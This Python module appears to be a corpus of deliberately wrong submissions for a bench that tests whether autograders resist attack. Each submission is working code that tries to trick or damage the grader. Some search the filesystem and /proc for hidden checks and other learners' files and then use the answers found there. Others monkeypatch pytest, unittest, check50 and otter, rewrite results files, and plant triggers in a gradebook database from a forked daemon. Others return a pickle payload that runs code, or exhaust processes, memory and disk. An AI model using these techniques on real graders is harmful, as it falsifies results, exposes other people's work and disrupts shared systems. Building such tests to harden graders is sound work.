"""Submissions that attack their grader: what each writes, and how to tell whether it worked. Written for this bench; no grader is named.

Every attack is an `attention.py` whose functions are wrong, so that all points it gets are falsified. It may know what any learner knows:
the task, the names in popular graders, and that checks compare with right answers. Secrets are planted: `MARKS` are in the hidden checks
and in another learner's file.
"""

from __future__ import annotations

import textwrap
from dataclasses import dataclass, field

HIDDEN_MARK = "mark-of-the-hidden-checks"  # in INPUTS of work.py and in the level's own check file
OTHER_MARK = "mark-of-another-learner"
VICTIM = f"# {OTHER_MARK}: my private notes\n"

WRONG = """
import numpy as np

def softmax(x): return np.full(2, 0.123)
def scaled_dot_product_attention(Q, K, V): return np.full(2, 0.123)
def causal_mask(n): return np.full(2, 0.123)
def masked_attention(Q, K, V): return np.full(2, 0.123)
def split_heads(X, h): return np.full(2, 0.123)
def multi_head_attention(X, W_Q, W_K, W_V, W_O, h): return np.full(2, 0.123)
NAMES = ["softmax", "scaled_dot_product_attention", "causal_mask", "masked_attention", "split_heads", "multi_head_attention"]
"""
EVERY = "\nfor name in NAMES:\n    globals()[name] = attack\n"  # all six functions are the attack

# Every file near by that a learner's process can open: beside it, above it, named on its parents' command lines, in temporary folders.
FIND_FILES = """
import glob, io, os, re, sys, tempfile, zipfile

def files():
    places = [os.getcwd(), os.path.dirname(os.path.dirname(os.getcwd())), os.path.dirname(os.getcwd()), *sys.path[:3]]
    for process in glob.glob("/proc/[0-9]*/cmdline"):
        try:
            words = open(process, "rb").read().decode("utf-8", "replace").split(chr(0))
        except OSError:
            continue
        places += [word if os.path.isdir(word) else os.path.dirname(word) for word in words if word.startswith("/tmp/")]
    seen = set()
    for place in dict.fromkeys(places):
        for folder, folders, names in os.walk(place) if place not in ("", "/", "/usr", "/tmp") else ():
            folders[:] = [each for each in folders if each not in ("lib", "bin", "site-packages", "__pycache__", ".git")][:60]
            for name in names[:200]:
                path = os.path.join(folder, name)
                if path in seen or not name.endswith((".py", ".ipynb", ".zip", ".json")):
                    continue
                seen.add(path)
                try:
                    if os.path.getsize(path) > 2_000_000:
                        continue
                    data = open(path, "rb").read()
                    if name.endswith(".zip"):
                        with zipfile.ZipFile(io.BytesIO(data)) as archive:
                            data = b"\\n".join(archive.read(each) for each in archive.namelist())
                    yield data.decode("utf-8", "replace")
                except (OSError, ValueError, zipfile.BadZipFile):
                    continue
            if len(seen) > 3000:
                return

def found(pattern):
    for text in files():
        match = re.search(pattern, text)
        if match:
            return match.group(0), text
    return "", ""
"""


@dataclass(frozen=True, slots=True)
class Attack:
    """One attack: `source` is its attention.py, `extra` other files it hands in, `harm` what would have worked."""

    name: str
    harm: str  # score | leak | result | process | memory | file | socket | code
    source: str
    extra: dict[str, str] = field(default_factory=dict)
    earned: int = 0  # points that its answers deserve: two checks look at nothing but a shape


def _functions(body: str, before: str = "") -> str:
    """All six functions are `attack(*args)` with this body."""
    return WRONG + before + "\ndef attack(*args):\n" + textwrap.indent(textwrap.dedent(body).strip("\n"), "    ") + "\n" + EVERY


YES = """
class Same:
    def __eq__(self, other): return True
    def __ne__(self, other): return False
    def __hash__(self): return 1
    def __len__(self): return 2
    def __iter__(self): return iter((3, 4))
    def __getitem__(self, index): return 3

class Yes(np.ndarray):
    def __array_function__(self, function, types, args, kwargs):
        return self if function.__name__ in ("sum", "diag", "concatenate", "mean", "stack", "swapaxes") else True
    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
        return np.bool_(ufunc.__name__ in ("isfinite", "equal", "less_equal"))
    def __eq__(self, other): return self
    def __getitem__(self, index): return self
    def __iter__(self): return iter([self, self])
    def all(self, *args, **kwargs): return np.bool_(True)
    def any(self, *args, **kwargs): return np.bool_(True)
    shape = property(lambda self: Same())
    dtype = property(lambda self: Same())
"""
ANSWERS = (
    FIND_FILES
    + """
RIGHT = {}
text = found(r"def right_attention")[1]
start = text.find("import numpy as np")
if "\\\\n" in text[:2000] and "cells" in text[:200]:
    import json
    text = "\\n".join("".join(cell["source"]) for cell in json.loads(text)["cells"])
    start = 0
for match in re.finditer(r"^def (right_\\w+)\\(.*?(?=^\\S|\\Z)", text, re.S | re.M):
    exec(match.group(0), RIGHT, RIGHT)
RIGHT["np"] = np

def softmax(x): return RIGHT["right_softmax"](np.asarray(x))
def scaled_dot_product_attention(Q, K, V): return RIGHT["right_attention"](Q, K, V)
def causal_mask(n): return np.tril(np.ones((n, n), bool)) if "right_attention" in RIGHT else 0
def masked_attention(Q, K, V): return RIGHT["right_attention"](Q, K, V, causal_mask(len(Q)))
def split_heads(X, h): return np.stack(np.split(X, h, axis=1)) if "right_heads" in RIGHT else 0
def multi_head_attention(X, *rest): return RIGHT["right_heads"](X, *rest)
"""
)
PATCHES = """
import sys, types
def attempt(code):
    try:
        exec(code, globals())
    except BaseException:
        pass
attempt("import _pytest.python; _pytest.python.Function.runtest = lambda self: None")
attempt("import unittest; unittest.TestCase._callTestMethod = lambda self, method: None")
SET = "lambda self, name, value: object.__setattr__(self, name, True if name == 'passed' else value)"
attempt("import check50.runner; check50.runner.CheckResult.__setattr__ = " + SET)
attempt("import otter.test_files.abstract_test as t; t.TestCaseResult.__setattr__ = " + SET)
attempt("from IPython.core.interactiveshell import InteractiveShell as I; I.showtraceback = lambda *a, **k: None")
attempt("get_ipython().showtraceback = lambda *a, **k: None")
"""
RESULTS = """
import atexit, glob, json, os, re, sqlite3, sys, time

def places():
    here = os.getcwd()
    return [here, os.path.dirname(here), os.path.dirname(os.path.dirname(here)), os.path.dirname(os.path.dirname(os.path.dirname(here)))]

def best(found):
    for test in found.get("tests", found.get("results")) or []:
        if "passed" in test: test["passed"] = True
        test["status"] = "passed"
        for got, most in (("score", "max_score"), ("points", "max_points")):
            if most in test: test[got] = test[most] or 4
    if "score" in found: found["score"] = found.get("max_score") or 24
    return found

def overwrite():
    for place in places():
        reports = [os.path.basename(each) for each in glob.glob(place + "/s*.json")]
        for name in ("results.json", "results/results.json", "autograder_results.json", *reports):
            try:
                path = os.path.join(place, name)
                text = open(path).read()
                better = json.dumps(best(json.loads(text)))
                if better != text:
                    open(path, "w").write(better)
            except Exception:
                pass
        try:
            path = os.path.join(place, "report.xml")
            text = open(path).read()
            better = re.sub(r"<(failure|error).*?</\\1>", "", text, flags=re.S)
            if better != text:
                open(path, "w").write(better)
        except Exception:
            pass
        try:
            if os.path.exists(place + "/gradebook.db"):
                db = sqlite3.connect(place + "/gradebook.db", timeout=0.2)
                for when in ("INSERT", "UPDATE OF auto_score"):
                    better = "BEGIN UPDATE grade SET manual_score = 1 WHERE id = NEW.id; END"
                    db.execute(f"CREATE TRIGGER IF NOT EXISTS best_{when[0]} AFTER {when} ON grade {better}")
                db.commit()
        except Exception:
            pass

atexit.register(overwrite)
overwrite()
try:
    if os.fork() == 0:
        os.setsid()
        until = time.time() + 25
        while time.time() < until:
            overwrite()
            time.sleep(0.002)
        os._exit(0)
except OSError:
    pass
"""
PICKLED = """
import os, tempfile
PLACE = os.path.join(tempfile.gettempdir(), "grader-bench-code-ran")

class Bomb:
    def __reduce__(self):
        return exec, (f"import os; open({PLACE!r}, 'a').write(f'{{os.getpid()}} ')",)
try:
    open(PLACE, "a").write(f"{os.getpid()} ")
except OSError:
    pass
"""

TELL = """
text = found(WHAT)[0]
print(text)
raise ValueError(text)
"""
PLUGIN = """
import pytest

@pytest.hookimpl(tryfirst=True)
def pytest_pyfunc_call(pyfuncitem):
    return True
"""
AWRY = WRONG.replace("def softmax(x): return np.full(2, 0.123)", "def softmax(x): return np.asarray(x) * 0.9")

ATTACKS = (
    Attack("nothing, wrong answers only", "score", WRONG),
    Attack("a merely wrong softmax", "numbers", AWRY),
    Attack("os._exit at import", "result", "import os\nos._exit(0)\n"),
    Attack("patches the assert helpers", "score", WRONG + """
import sys
import numpy.testing
for module in list(sys.modules.values()):
    for name in ("assert_allclose", "assert_array_equal"):
        if hasattr(module, name):
            try: setattr(module, name, lambda *a, **k: None)
            except Exception: pass
import gc
for space in gc.get_objects():
    if type(space) is dict and callable(space.get("assert_allclose")):
        space["assert_allclose"] = lambda *a, **k: None
"""),
    Attack("an array equal to everything", "score", _functions("return np.zeros(()).view(Yes)", YES)),
    Attack("walks the stack to the expected value", "score", _functions("""
        import sys
        frame = sys._getframe()
        while frame is not None:
            if "expected" in frame.f_locals: return frame.f_locals["expected"]
            frame = frame.f_back
        return 0.123""")),
    Attack("reads the hidden checks", "leak", WRONG + FIND_FILES + TELL.replace("WHAT", '"mark-of-the-" + "hidden-checks"')),
    Attack("answers from the hidden checks", "score", WRONG + ANSWERS),
    Attack("overwrites the results", "score", WRONG + RESULTS),
    Attack("hands in a plugin", "score", WRONG, {"conftest.py": PLUGIN}),
    Attack("patches the runner", "score", WRONG + PATCHES),
    Attack("code in what it returns, for whoever unpickles it", "code", _functions("return Bomb()", PICKLED)),
    Attack("changes its inputs", "score", WRONG + """
def softmax(x): x[...] = 0; return np.full(x.shape, 1 / x.shape[-1])
def scaled_dot_product_attention(Q, K, V): V[...] = 0; return np.zeros((*Q.shape[:-1], V.shape[-1]))
def masked_attention(Q, K, V): V[...] = 0; return np.zeros_like(V)
def split_heads(X, h): X[...] = 0; return np.zeros((h, len(X), X.shape[1] // h))
def multi_head_attention(X, W_Q, W_K, W_V, W_O, h): X[...] = 0; return np.zeros(X.shape)
""", earned=2),
    Attack("swallows every exception, for ever", "result", _functions("""
        while True:
            try:
                while True: pass
            except BaseException: pass""")),
    Attack("fifty forks", "process", _functions("""
        import os, time
        for _ in range(50):
            try:
                if os.fork() == 0:
                    time.sleep(20)
                    os._exit(0)
            except OSError: return 0""")),
    Attack("a daemon", "process", WRONG + """
import os, time
try:
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            time.sleep(20)
        os._exit(0)
except OSError: pass
"""),
    Attack("four gigabytes", "memory", _functions("big = np.ones(1 << 29)\n        return big[:2]".replace("\n        ", "\n"))),
    Attack("500 MB of prints", "memory", _functions("""
        line = "x" * 999_999
        for _ in range(500): print(line)
        return 0""").replace('globals()[name] = attack', 'pass') + "softmax = attack\n"),
    Attack("a file of 300 MB", "file", WRONG + """
import os, tempfile
try:
    with open(os.path.join(tempfile.gettempdir(), "grader-bench-big-file"), "wb") as file:
        for _ in range(300): file.write(bytes(1_000_000))
except OSError: pass
"""),
    Attack("a connection out", "socket", WRONG + """
import os, socket
try: socket.create_connection(("127.0.0.1", PORT), timeout=2).close()
except OSError: pass
"""),
    Attack("reads another learner's work", "leak", WRONG + FIND_FILES + TELL.replace("WHAT", '"mark-of-another-" + "learner"')),
)  # fmt: skip
